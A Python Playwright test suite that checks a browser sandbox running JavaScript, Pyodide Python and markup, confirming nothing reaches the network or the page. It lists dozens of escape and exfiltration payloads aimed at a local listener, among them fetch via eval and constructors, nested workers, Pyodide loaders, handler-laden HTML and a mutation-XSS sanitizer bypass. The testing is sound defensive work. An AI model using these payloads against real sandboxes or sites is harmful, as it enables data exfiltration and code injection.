"""The sandbox's walls: nothing that a program tries reaches the page, its origin or the network.

Every way out is tried with the walls off first, where it must arrive, or it proves nothing and does
not count: JavaScript in a worker of the page, Python in a plain Pyodide there, markup in a plain
frame. Then the same is tried behind the walls. JavaScript is also tried in a bare worker of the
sandbox, where only the frame's origin and policy stop it. All of it in Chromium, and in a Firefox
as distributors ship it.
"""

from __future__ import annotations

import re
import shutil
import time
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page
from playwright.sync_api import Error as PlaywrightError

from tests.browser import sandbox_site
from tests.browser.sandbox_site import Attacker, Site

pytestmark = pytest.mark.timeout(180)

# Bodies of async functions; URL is the attacker's, over http. Each ends when it has failed or not.
WAYS_OUT = {
    "fetch": "await fetch(URL)",
    "blind fetch": "await fetch(URL, {mode: 'no-cors', method: 'POST', body: 'x'})",
    "kept-alive fetch": "await fetch(URL, {keepalive: true})",
    "fetch of a Request": "await fetch(new Request(URL, {headers: {a: 'b'}}))",
    "HEAD": "await fetch(URL, {method: 'HEAD'})",
    "streamed wasm": "await WebAssembly.compileStreaming(fetch(URL))",
    "running wasm": "await WebAssembly.instantiateStreaming(fetch(URL))",
    "fetch from eval": "await (0, eval)(`fetch('${URL}')`)",
    "fetch from Function": "await new Function('u', 'return fetch(u)')(URL)",
    "fetch from a constructor": "await (async () => 0).constructor(`await fetch('${URL}')`)()",
    "fetch from a generator": "await (function* () {}).constructor(`yield fetch('${URL}')`)()"
    ".next().value",
    "fetch of a prototype": "await Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch"
    ".call(self, URL)",
    "fetch from a timer": """await new Promise((r, f) => {
      const code = `fetch('${URL}').finally(done)`; self.done = r; setTimeout(code, 0);
      setTimeout(() => f(new Error('nothing')), 1000) })""",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', URL, false); x.send()",
    "posting XMLHttpRequest": """const x = new XMLHttpRequest(); x.open('POST', URL);
      await new Promise((r, f) => { x.onload = r; x.onerror = f; x.send('x') })""",
    "WebSocket": """const s = new WebSocket(URL.replace('http', 'ws'));
      await new Promise(r => { s.onerror = s.onclose = s.onopen = r })""",
    "WebSocket with a protocol": """const s = new WebSocket(URL.replace('http', 'ws'), ['secret']);
      await new Promise(r => { s.onerror = s.onclose = s.onopen = r })""",
    "EventSource": """const s = new EventSource(URL);
      await new Promise(r => { s.onerror = s.onopen = r }); s.close()""",
    "WebTransport": """const t = new WebTransport(URL.replace('http', 'https'));
      await Promise.allSettled([t.ready, t.closed])""",
    "importScripts": "importScripts(URL)",
    "import()": "await import(URL)",
    "import in a module": """await import(self.URL.createObjectURL(new Blob([`import '${URL}'`],
      {type: 'text/javascript'})))""",
    "export from a module": """await import(self.URL.createObjectURL(new Blob(
      [`export * from '${URL}'`], {type: 'text/javascript'})))""",
    "import of JSON": "await import(URL, {with: {type: 'json'}})",
    "FontFace": "await new FontFace('f', `url(${URL})`).load()",
    "Cache": "await (await caches.open('c')).add(URL)",
    "Cache of many": "await (await caches.open('c')).addAll([URL, URL + '2'])",
    "module worker": """const w = new Worker(self.URL.createObjectURL(new Blob(
      [`import '${URL}'; postMessage(0)`], {type: 'text/javascript'})), {type: 'module'});
      await new Promise((r, f) => { w.onmessage = r; w.onerror = f })""",
    "worker inside": """const w = new Worker(self.URL.createObjectURL(new Blob([
        `fetch('${URL}').catch(() => 0).then(() => {
          try { importScripts('${URL}') } catch {} postMessage(0) })`])));
      await new Promise((r, f) => { w.onmessage = r; w.onerror = f })""",
    "socket of a worker inside": """const w = new Worker(self.URL.createObjectURL(new Blob([
        `const s = new WebSocket('${URL.replace('http', 'ws')}');
        s.onerror = s.onopen = () => postMessage(0)`])));
      await new Promise((r, f) => { w.onmessage = r; w.onerror = f })""",
    "worker in a worker": """const inner = `fetch('${URL}').finally(() => postMessage(0))`;
      const w = new Worker(self.URL.createObjectURL(new Blob([
        `const w = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(inner)}])));
        w.onmessage = w.onerror = () => postMessage(0)`])));
      await new Promise((r, f) => { w.onmessage = r; w.onerror = f })""",
    "shared worker": """const w = new SharedWorker(self.URL.createObjectURL(new Blob([
        `onconnect = e => fetch('${URL}').catch(() => 0).then(() => e.ports[0].postMessage(0))`])));
      await new Promise((r, f) => { w.port.onmessage = r; w.onerror = f })""",
    "sendBeacon": "navigator.sendBeacon(URL, 'x')",
}
# These are not there in a worker anyway, so the page is where they must be seen to work.
ONLY_IN_PAGES = {"sendBeacon", "shared worker"}

TRY = """
const tryIt = async URL => {
  const late = new Promise((_, f) => setTimeout(f, 3000, 'still trying'));
  const way = async () => { %s };
  try { await Promise.race([way(), late]); return 'got out'; }
  catch (error) { return `stopped: ${error}`; }
};
"""
ATTEMPTS = 3

NOT_WORTH_HAVING = [
    "document", "window", "parent", "top", "frames", "opener", "localStorage", "sessionStorage",
    "indexedDB", "caches", "cookieStore", "XMLHttpRequest", "WebSocket", "EventSource",
    "WebTransport", "importScripts", "Worker", "SharedWorker", "BroadcastChannel", "FontFace",
    "postMessage", "RTCPeerConnection",
]  # fmt: skip


@pytest.fixture(scope="module", params=["chromium", "firefox"])
def browser(request: pytest.FixtureRequest) -> Browser:
    """Each browser in its turn; the walls are the browser's, so each has to show them."""
    chosen: Browser = request.getfixturevalue(request.param)
    return chosen


@pytest.fixture(scope="module")
def site(repository: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    directory = tmp_path_factory.mktemp("walls")
    sandbox_site.build(repository, directory)
    with sandbox_site.serving(directory) as running:
        yield running


@pytest.fixture(scope="module")
def page(browser: Browser, site: Site) -> Iterator[Page]:
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(120_000)
    page.goto(site.url)
    page.evaluate("document.cookie = 'secret=1'")
    yield page
    context.close()


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    with sandbox_site.attacking() as listening:
        yield listening


def run(page: Page, language: str, code: str) -> dict[str, Any]:
    script = "([language, code]) => arena.run(language, code, 30000)"
    result: dict[str, Any] = page.evaluate(script, [language, code])
    return result


@pytest.mark.parametrize("way", WAYS_OUT)
def test_outside_the_attacker_hears_of_it(page: Page, attacker: Attacker, way: str) -> None:
    tried = TRY % WAYS_OUT[way]
    if way in ONLY_IN_PAGES:
        page.evaluate(f"url => {{ {tried} return tryIt(url); }}", attacker.url)
    else:
        worker = f"{tried} tryIt('{attacker.url}').then(postMessage)"
        script = """code => new Promise(resolve => {
          new Worker(URL.createObjectURL(new Blob([code]))).onmessage = e => resolve(e.data);
        })"""
        attempt(page, script, worker)
    assert hears(page, attacker)


def attempt(page: Page, script: str, code: str) -> str:
    """Try once, and anew while nothing comes of it: Firefox loses a worker in a worker at times."""
    said = ""
    for _ in range(ATTEMPTS):
        said = page.evaluate(script, code)
        if said != "stopped: still trying":
            break
    return said


def hears(page: Page, attacker: Attacker) -> bool:
    """Whether something came, other than this question's own request, which comes last."""
    # By another name, so that it cannot travel on a connection that a probe has opened.
    page.evaluate("port => fetch(`http://localhost:${port}/last`)", attacker.port)
    assert attacker.heard[-1] == "GET /last"
    return attacker.heard != ["tcp", "GET /last"]


@pytest.mark.parametrize("way", WAYS_OUT)
def test_the_frame_alone_stops_it(page: Page, attacker: Attacker, way: str) -> None:
    code = TRY % WAYS_OUT[way] + f"report(await tryIt('{attacker.url}'))"
    tried = attempt(page, "code => arena.runBare(code)", code)
    assert tried.startswith(("stopped", "got out"))
    assert not hears(page, attacker)


@pytest.mark.parametrize("way", WAYS_OUT)
def test_a_javascript_program_cannot(page: Page, attacker: Attacker, way: str) -> None:
    code = TRY % WAYS_OUT[way] + f"console.log(await tryIt('{attacker.url}'))"
    result = run(page, "javascript", code)
    assert result["stdout"].startswith("stopped: "), result
    assert not hears(page, attacker)


def test_a_javascript_program_cannot_import_statically(page: Page, attacker: Attacker) -> None:
    result = run(page, "javascript", f"import '{attacker.url}'")
    assert result["status"] == "error"
    assert not hears(page, attacker)


PYTHON_WAYS_OUT = {
    "js.fetch": "import js\nawait js.fetch(URL)",
    "from js": "from js import fetch\nawait fetch(URL, method='POST', body='x')",
    "pyfetch": "from pyodide.http import pyfetch\nawait pyfetch(URL)",
    "open_url": "from pyodide.http import open_url\nopen_url(URL)",
    "pyxhr": "from pyodide.http import pyxhr\npyxhr.get(URL)",
    "XMLHttpRequest": "import js\nx = js.XMLHttpRequest.new()\nx.open('GET', URL, False)\nx.send()",
    "WebSocket": "import js\nfrom asyncio import sleep\n"
    "js.WebSocket.new(URL.replace('http', 'ws'))\nawait sleep(0.3)",
    "EventSource": "import js\nfrom asyncio import sleep\njs.EventSource.new(URL)\n"
    "await sleep(0.3)",
    "Worker": "import js\nfrom asyncio import sleep\nblob = js.Blob.new([f'fetch(\"{URL}\")'])\n"
    "js.Worker.new(js.URL.createObjectURL(blob))\nawait sleep(0.5)",
    "FontFace": "import js\nawait js.FontFace.new('f', f'url({URL})').load()",
    "Cache": "import js\nawait (await js.caches.open('p')).add(URL)",
    "eval": "import js\nawait js.eval(f'import(\"{URL}\")')",
    "eval of fetch": "import js\nawait js.eval(f'fetch(\"{URL}\")')",
    "run_js": "from pyodide.code import run_js\nawait run_js(f'import(\"{URL}\")')",
    "Function": "import js\nawait js.Function.new(f'return import(\"{URL}\")')()",
    "constructor": "import js\nawait js.Object.constructor(f'return fetch(\"{URL}\")')()",
    "globalThis": "import js\nawait js.globalThis.fetch(URL)",
    "Reflect": "import js\nawait js.Reflect.get(js.globalThis, 'fetch')(URL)",
    "timer text": "import js\njs.setTimeout(f'fetch(\"{URL}\")', 0)\n"
    "from asyncio import sleep\nawait sleep(0.3)\n",
    "a package": "import pyodide_js\nawait pyodide_js.loadPackage(URL + 'x-1.0-py3-none-any.whl')\n"
    "import x",
    "the interpreter's own loader": "import pyodide_js\n"
    "await pyodide_js._module.API.loadBinaryFile(URL, 'x')",
}
# No interpreter in a browser can do these, wall or no wall: they have nothing to prove.
PYTHON_NOT_EVEN_THEN = {
    "urllib": "from urllib.request import urlopen\nurlopen(URL, timeout=2)",
    "socket": "import socket\nsocket.create_connection(('127.0.0.1', PORT), timeout=2).send(b'x')",
    "asyncio": "import asyncio\nawait asyncio.open_connection('127.0.0.1', PORT)",
}

PLAIN_PYTHON = """base => {
  const code = `
    import { loadPyodide } from '${base}plain/pyodide.mjs';
    const pyodide = await loadPyodide({ indexURL: '${base}plain/' });
    onmessage = async ({ data }) => {
      try { await pyodide.runPythonAsync(data); postMessage('done'); }
      catch (error) { postMessage(String(error)); }
    };
    postMessage('ready');`;
  const url = URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
  const worker = new Worker(url, { type: 'module' });
  window.plainPython = code => new Promise(resolve => {
    worker.onmessage = event => resolve(event.data);
    worker.postMessage(code);
  });
  return new Promise((resolve, reject) => {
    worker.onmessage = resolve;
    worker.onerror = error => reject(error.message);
  });
}"""


@pytest.fixture(scope="module")
def plain(browser: Browser, site: Site, repository: Path) -> Iterator[Page]:
    """A page with Pyodide in an ordinary worker, as its manual says."""
    directory = Path(site.directory) / "plain"
    shutil.copytree(repository / "node_modules" / "pyodide", directory, dirs_exist_ok=True)
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(120_000)
    page.goto(site.url)
    page.evaluate(PLAIN_PYTHON, site.url)
    yield page
    context.close()


@pytest.mark.parametrize("way", PYTHON_WAYS_OUT)
def test_outside_the_attacker_hears_of_python(plain: Page, attacker: Attacker, way: str) -> None:
    code = f"URL, PORT = '{attacker.url}', {attacker.port}\n{PYTHON_WAYS_OUT[way]}"
    said = plain.evaluate("code => plainPython(code)", code)
    assert hears(plain, attacker), said


@pytest.mark.parametrize("way", [*PYTHON_WAYS_OUT, *PYTHON_NOT_EVEN_THEN])
def test_a_python_program_cannot(page: Page, attacker: Attacker, way: str) -> None:
    body = PYTHON_WAYS_OUT.get(way) or PYTHON_NOT_EVEN_THEN[way]
    ended = "\nraise OSError('nothing happened')"
    code = f"URL, PORT = '{attacker.url}', {attacker.port}\n{body}{ended}"
    result = run(page, "python", code)
    assert result["status"] == "error", result
    assert not hears(page, attacker)


# Markup that a value shows; URL is the attacker's.
MARKUP_WAYS_OUT = {
    "picture": "<img src=URL>",
    "set of pictures": "<img srcset='URL 1x'>",
    "source of a picture": "<picture><source srcset=URL><img></picture>",
    "drawn picture": "<svg><image href=URL width=9 height=9 /></svg>",
    "filter": "<svg width=9 height=9><filter id=f><feImage href=URL /></filter>"
    "<rect width=9 height=9 filter='url(#f)'/></svg>",
    "style": "<p style='background: url(URL)'>x</p>",
    "rule": "<style>p { background: url(URL) }</style><p>x</p>",
    "@import": "<style>@import 'URL';</style>",
    "font": "<style>@font-face { font-family: f; src: url(URL) } p { font-family: f }</style><p>x",
    "content": "<style>p::before { content: url(URL) }</style><p>x",
    "list style": "<ul style='list-style-image: url(URL)'><li>x</ul>",
    "border": "<p style='border: 9px solid; border-image: url(URL) 9'>x</p>",
    "mask": "<p style='-webkit-mask: url(URL); background: red'>x</p>",
    "image-set": "<p style='background: image-set(\"URL\" 1x)'>x</p>",
    "background attribute": "<table background=URL><tr><td>x</table>",
    "input picture": "<input type=image src=URL>",
    "style sheet": "<link rel=stylesheet href=URL>",
    "preload": "<link rel=preload as=image href=URL>",
    "prefetch": "<link rel=prefetch href=URL>",
    "module preload": "<link rel=modulepreload href=URL>",
    "frame": "<iframe src=URL></iframe>",
    "frame with text": "<iframe srcdoc='<img src=URL>'></iframe>",
    "object": "<object data=URL></object>",
    "embed": "<embed src=URL>",
    "film": "<video src=URL preload=auto></video>",
    "poster": "<video poster=URL></video>",
    "sound": "<audio src=URL preload=auto></audio>",
    "script": "<script src=URL></script>",
    "code": "<script>fetch('URL')</script>",
    "handler": "<img src='data:,' onerror='fetch(\"URL\")'>",
    "drawn handler": "<svg onload='fetch(\"URL\")'></svg>",
    "refresh": "<meta http-equiv=refresh content='0;url=URL'>",
    "base": "<base href=URL><img src=relative.png>",
    "shadow": "<div><template shadowrootmode=open><img src=URL></template></div>",
    "link": "<a href=URL id=press>x</a>",
    "link to itself": "<a href=URL target=_self id=press>x</a>",
    "link to the top": "<a href=URL target=_top id=press>x</a>",
    "drawn link": "<svg width=99 height=99><a href=URL><rect id=press width=90 "
    "height=90 /></a></svg>",
    "drawn link of old": "<svg width=99 height=99><a xlink:href=URL><rect id=press width=90 "
    "height=90 /></a></svg>",
    "moved link": "<svg width=99 height=99><a><set attributeName=href to=URL />"
    "<rect id=press width=90 height=90 /></a></svg>",
    "formula": "<math><mtext href=URL id=press>xxxxx</mtext></math>",
    "preconnect": "<link rel=preconnect href=URL>",
    "preload of a set": "<link rel=preload as=image imagesrcset='URL 1x'>",
    "data and more": "<img srcset='data:image/png,x 9x, URL 1x'>",
    "named like a method": "<form><input name=getAttributeNames></form><img name=querySelectorAll>"
    "<img name=body><img srcset='URL 1x'>",
    "ping": "<a href='#' ping=URL id=press>x</a>",
    "form": "<form action=URL><button id=press>x</button></form>",
    "posting form": "<form action=URL method=post target=_blank><button id=press>x</button></form>",
}


# Only a second reading of what a cleaner wrote makes a link of it.
MARKUP_NOT_EVEN_THEN = {
    "hidden from one reading": "<form><math><mtext></form><form><mglyph><style></math>"
    "<svg width=99 height=99><a href=URL><rect id=press width=90 height=90 /></a></svg>",
}
# Browsers in which a way out is none, so that it has nothing to prove there.
NOT_THERE = {
    ("firefox", "ping"): "Firefox ships with browser.send_pings off",
    ("chromium", "formula"): "Chromium has no links in formulas",
    ("chromium", "preconnect"): "the flags with which Chromium is driven forbid it",
}


def show_markup(page: Page, source: str, attacker: Attacker, how: str) -> None:
    """Show markup in a frame, press what is in there to be pressed, and wait until it is loaded."""
    page.evaluate(f"html => arena.{how}(html)", source.replace("URL", attacker.url))
    if "id=press" in source:
        page.frame_locator("iframe.shown").locator("#press").click()


@pytest.mark.parametrize("way", MARKUP_WAYS_OUT)
def test_outside_the_attacker_hears_of_markup(
    browser: Browser, site: Site, attacker: Attacker, way: str
) -> None:
    if (browser.browser_type.name, way) in NOT_THERE:
        return
    context = browser.new_context()
    page = context.new_page()
    page.goto(site.url)
    with suppress(PlaywrightError):  # it may have led the page away
        show_markup(page, MARKUP_WAYS_OUT[way], attacker, "showPlainly")
    deadline = time.monotonic() + 5
    while not attacker.heard and time.monotonic() < deadline:
        page.wait_for_timeout(20)
    assert attacker.heard
    context.close()


@pytest.mark.parametrize("way", [*MARKUP_WAYS_OUT, *MARKUP_NOT_EVEN_THEN])
def test_markup_cannot(page: Page, attacker: Attacker, way: str) -> None:
    source = MARKUP_WAYS_OUT.get(way) or MARKUP_NOT_EVEN_THEN[way]
    show_markup(page, source, attacker, "showMarkup")
    assert not hears(page, attacker)


HARMLESS = [
    '<p style="color: red" title="x">text</p>',
    '<img src="data:image/png;base64,AAAA" alt="plot">',
    '<svg><image href="data:image/png;base64,AAAA"></image><use xlink:href="#mark"></use></svg>',
    '<a href="#below">below</a>',
    '<form><input name="getAttributeNames"></form>',
]


@pytest.mark.parametrize("source", HARMLESS)
def test_markup_that_leads_nowhere_is_shown_as_it_is(page: Page, source: str) -> None:
    page.evaluate("html => arena.showMarkup(html)", source)
    assert page.frame_locator("iframe.shown").locator("body").inner_html() == source


def test_there_are_at_least_seventy_ways() -> None:
    assert len(WAYS_OUT) + len(PYTHON_WAYS_OUT) + len(MARKUP_WAYS_OUT) >= 90


def test_javascript_finds_nothing_worth_having(page: Page) -> None:
    names = ", ".join(f"typeof {name}" for name in NOT_WORTH_HAVING)
    result = run(page, "javascript", f"console.log(new Set([{names}]), self.origin)")
    assert result["stdout"] == "Set(1) { 'undefined' } null\n"


def test_python_finds_nothing_worth_having(page: Page) -> None:
    code = (
        f"import js\nprint([name for name in {NOT_WORTH_HAVING} if hasattr(js, name)], js.origin)"
    )
    assert run(page, "python", code)["stdout"] == "[] null\n"


def test_a_bare_worker_has_no_storage_and_no_cookies(page: Page) -> None:
    result = page.evaluate(
        "code => arena.runBare(code)",
        """
        const tries = {
          indexedDB: () => new Promise((resolve, reject) => {
            const request = indexedDB.open('x');
            request.onsuccess = resolve;
            request.onerror = () => reject(request.error);
          }),
          caches: () => caches.open('x'),
          files: () => navigator.storage.getDirectory(),
          cookies: async () => { if (self.cookieStore) await cookieStore.getAll(); else throw 0; }
        };
        const open = [];
        for (const [name, attempt] of Object.entries(tries)) {
          try { await attempt(); open.push(name); } catch {}
        }
        report(`open: ${open}`);
        """,
    )
    assert result == "open: "


def test_the_frame_serves_only_in_an_opaque_origin(page: Page) -> None:
    """A frame that shares the page's origin keeps silent, where the sandboxed one answers."""
    answers = page.evaluate("""async () => {
      const { directory } = await (await fetch('runtime/version.json')).json();
      const ask = sandbox => new Promise(resolve => {
        const frame = document.createElement('iframe');
        if (sandbox) frame.setAttribute('sandbox', 'allow-scripts');
        const { port1, port2 } = new MessageChannel();
        const heard = [];
        port1.onmessage = e => { heard.push(e.data.type); if (sandbox) resolve(heard); };
        frame.onload = () => {
          frame.contentWindow.postMessage('arena-sandbox', '*', [port2]);
          if (!sandbox) resolve(heard);
        };
        frame.src = `runtime/${directory}/sandbox.html`;
        document.body.append(frame);
      });
      const open = await ask(false);
      return [open, await ask(true), open];
    }""")
    assert answers == [[], ["hello"], []]


def test_the_frame_keeps_silent_as_a_page_of_its_own(browser: Browser, site: Site) -> None:
    context = browser.new_context()
    page = context.new_page()
    page.goto(site.url)
    directory = page.evaluate("fetch('runtime/version.json').then(r => r.json())")["directory"]
    page.goto(f"{site.url}runtime/{directory}/sandbox.html")
    heard = page.evaluate("""() => new Promise(resolve => {
      const { port1, port2 } = new MessageChannel();
      const heard = [];
      port1.onmessage = e => heard.push(e.data.type);
      window.postMessage('arena-sandbox', '*', [port2]);
      // Delivered after the handshake, whether or not that was answered.
      addEventListener('message', e => { if (e.data === 'end') resolve(heard); });
      window.postMessage('end', '*');
    })""")
    assert heard == []
    context.close()


def test_the_page_carries_its_policy(site: Site, page: Page) -> None:
    version = page.evaluate("fetch('runtime/version.json').then(r => r.json())")
    html = page.evaluate(
        "path => fetch(path).then(r => r.text())", f"runtime/{version['directory']}/sandbox.html"
    )
    found = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', html)
    assert found is not None
    assert found[1] == version["csp"]
    assert "unsafe-inline" not in found[1]
    assert "'unsafe-eval'" not in found[1]
